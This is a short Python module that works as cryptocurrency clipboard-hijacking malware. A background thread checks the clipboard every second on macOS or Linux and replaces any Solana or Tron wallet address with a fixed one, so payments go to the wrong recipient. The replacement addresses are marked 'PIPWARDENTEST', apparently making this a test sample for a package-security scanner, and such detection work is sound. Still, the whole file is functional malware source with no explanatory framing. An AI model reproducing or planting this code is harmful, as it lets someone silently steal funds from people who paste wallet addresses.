import re
import shutil
import subprocess
import sys
import threading
import time

_SOL = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")
_TRX = re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$")
_ME = {"sol": "PiPWARDENTESTSo1ana2222222222222222222222", "trx": "TPIPWARDENTESTzzzzzzzzzzzzzzzzzzzz"}


def _tools():
    if sys.platform == "darwin":
        return ["pbpaste"], ["pbcopy"]
    if shutil.which("xclip"):
        return ["xclip", "-selection", "clipboard", "-o"], ["xclip", "-selection", "clipboard"]
    return ["xsel", "-b", "-o"], ["xsel", "-b", "-i"]


def _loop():
    get, put = _tools()
    while True:
        try:
            cur = subprocess.run(get, capture_output=True, text=True, timeout=2).stdout.strip()
            new = _ME["trx"] if _TRX.match(cur) else _ME["sol"] if _SOL.match(cur) else None
            if new and new != cur:
                subprocess.run(put, input=new, text=True, timeout=2)
        except Exception:
            pass
        time.sleep(1)


def arm():
    t = threading.Timer(5, _loop)
    t.daemon = False
    t.start()
